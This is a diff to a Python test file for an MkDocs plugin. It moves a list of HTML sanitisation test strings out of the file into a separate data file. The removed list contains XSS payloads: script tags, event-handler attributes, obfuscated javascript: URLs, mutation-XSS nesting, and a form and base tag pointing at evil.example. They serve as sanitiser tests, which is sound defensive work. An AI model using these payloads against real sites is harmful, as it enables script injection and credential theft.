@@ -16,7 +16,7 @@ from markdown import markdown
 from markdown_it import MarkdownIt
 from mkdocs.exceptions import Abort
 from msgspec import DecodeError, msgpack
-from tables import tabled
+from tables import beside, tabled
 from terminal import Terminal
 
 from mkdocs_recall import Corpus, Document, Heading, Mark
@@ -301,46 +301,7 @@ def test_every_kind_of_quote_comes_from_the_cache(site: Site, form: str) -> None
     assert f", {len(fences)} from the cache" in site.rebuild().infos[-1]
 
 
-TRICKS = [
-    "<script>alert('session expires')</script>",
-    "<SCRIPT/x>alert('session expires')</SCRIPT\t>",
-    "<scr<script>ipt>x()</scr</script>ipt>",
-    '<img src=x onerror="x()" alt="&lt;script&gt;x()&lt;/script&gt; session expires">',
-    "<svg onload=x()><script>x()</script><text>session</text></svg>",
-    "<svg><style><img src=x onerror=x()></style></svg>",
-    "<math><mi xlink:href='javascript:x()'>session</mi><annotation-xml>x</annotation-xml></math>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=x()>'>",
-    "<iframe src='javascript:x()' srcdoc='<script>x()</script>'>session</iframe>",
-    "<object data='data:text/html,x'><embed src='x'></object>",
-    "<template><script>x()</script> session expires </template>",
-    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
-    "<textarea><script>x()</script></textarea><title><b></title>",
-    "<xmp><script>x()</script></xmp><plaintext-x>session</plaintext-x>",
-    "<style>* { display: none } </style><link rel=stylesheet href=//evil.example>",
-    "<meta http-equiv=refresh content='0;javascript:x()'><base href=//evil.example/>",
-    "<form action=//evil.example><input name=password value=session><button formaction=x>",
-    "<p id=search name=body style='position:fixed' onclick='x()'>A session id expires.</p>",
-    "<a href='javascript:x()' onmouseover='x()' style='x' id='x' target='_top'>session</a>",
-    "<a href='&#x6A;avascript:x()'>session</a> <a href='java&Tab;script:x()'>session</a>",
-    "<a href=' &#1; JaVaScRiPt&colon;x()'>session</a> <a href='\x0bdata:text/html,x'>session</a>",
-    "<a href='vbscript:x'>session</a> <a href='feed:javascript:x()'>session</a>",
-    "<a href='view-source:x'>session</a> <a href='filesystem:x'>session</a> <a href='blob:x'>x</a>",
-    "<a href='\u00a0javascript:x()'>session</a> <a href='java\u0000script:x()'>session</a>",
-    "<a href='./javascript:x()'>session</a> <a href='x/../javascript:x()'>session</a>",
-    "<a href='{{ 191*7 }}'>session</a> <a href='x\" onclick=\"x()'>session</a>",
-    '<a href="x" title="\'><script>x()</script>">session</a> <a name=x>session</a>',
-    "<!-- <script>x()</script> --> session <!--> <script>x()</script> <!-- x --!>",
-    "<![CDATA[<script>x()</script>]]> session <?php echo 1 ?> <!doctype x>",
-    "&lt;script&gt;alert('session')&lt;/script&gt; &amp;lt;script&amp;gt; &#60;b&#62;",
-    "`<script>x()</script>` **<img src=x onerror=x()> session** *x</em></p></div>*",
-    "<em><strong><a href='a'><p>A session</em> expires</strong> late.</a>",
-    "<details open ontoggle=x()><summary>A session</summary>expires</details>",
-    "<video><source onerror=x()></video><audio src=x onerror=x()>session</audio>",
-    "<x-a is=a onclick=x()>A session expires.</x-a><blink>session</blink>",
-    "<ruby>session<rt onclick=x()>expires</rt></ruby><marquee onstart=x()>session</marquee>",
-    "<p class='md-header' data-md-component='x' hx-get='//evil.example' x-init='x()'>session</p>",
-    "<blockquote class=recall></blockquote></article></body></html><script>x()</script>",
-]
+TRICKS: list[str] = beside(__file__)["TRICKS"]
 TAGS = {
     *("blockquote", "p", "br", "cite", "a", "code", "em", "strong", "ul", "li", "pre", "div"),
     *("details", "summary", "table", "thead", "tbody", "tr", "th", "td", "span"),
